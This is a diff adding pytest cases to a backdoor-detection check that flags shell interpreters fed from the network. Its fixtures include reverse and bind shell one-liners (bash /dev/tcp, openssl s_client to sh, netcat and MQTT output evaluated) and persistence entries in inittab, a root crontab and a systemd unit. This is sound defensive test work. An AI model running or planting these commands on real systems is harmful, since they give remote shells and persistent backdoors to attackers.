@@ -17,6 +17,11 @@ from assay.checks.backdoors.interpreter_from_network import fed_interpreters
         "socat exec:'bash -li',pty tcp:1.2.3.4:99\n",
         "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n",
         "tcpsvd 0 99 sh -i\n",
+        "mosquitto_sub -h broker -t 'dev/#' | sh\n",
+        "openssl s_client -quiet -connect h:443 | /bin/sh 2>&1\n",
+        'nc -l -p 9 | while read -r line; do eval "$line"; done\n',
+        "nc -l -p 9 | while read line\ndo\n $line > /tmp/out\ndone\n",
+        "mosquitto_sub -t x | while read c; do sh -c ${c}; done\n",
     ],
 )
 def test_fed(text):
@@ -38,6 +43,9 @@ def test_fed(text):
         "tcpsvd -E 0 21 ftpd -w\n",
         "nc -e sh-server x\n",
         "socat TCP-LISTEN:99 EXEC:/bin/login\n",
+        "nc -l -p 9 | while read line; do echo $line; done\n",
+        "nc -l -p 9 | while read line; do logger x; done; eval $line\n",
+        "mosquitto_sub -t x | while read c; do case $c in on) led on;; esac; done\n",
     ],
 )
 def test_not_fed(text):
@@ -61,3 +69,37 @@ def test_super_server(line, count):
 @pytest.mark.parametrize("piece", ["nc ", "socat tcp:exec:", "tcpsvd ", "sh </dev/", "nc -e"])
 def test_hostile_text_ends(piece):
     assert not fed_interpreters((piece * 90_000)[: 256 << 10])
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("/etc/inittab", b"::respawn:/bin/nc -l -p 99 -e /bin/sh\n"),
+        ("/etc/crontabs/root", b"* * * * * nc 192.0.2.7 99 | sh\n"),
+        (
+            "/lib/systemd/system/lab@.service",
+            b"[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
+        ),
+    ],
+)
+def test_tables_that_hold_commands(path, text):
+    (finding,) = findings_of(interpreter_from_network, image_of({path: text}))
+    assert finding.severity == "high"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"[Service]\nExecStart=/bin/sh /usr/lib/serve.sh\nStandardInput=socket\n",
+        b"[Service]\nExecStart=/bin/sh -i\nStandardInput=tty\n",
+    ],
+)
+def test_units_that_give_nothing(text):
+    image = image_of({"/lib/systemd/system/a.service": text})
+    assert findings_of(interpreter_from_network, image) == []
+
+
+def test_hostile_loops_end():
+    for piece in ("nc -l | while read a; do ", "nc |" * 3, "mosquitto_sub | while read a\n"):
+        text = (piece * 60_000)[: 256 << 10]
+        assert len(fed_interpreters(text)) < 60_000
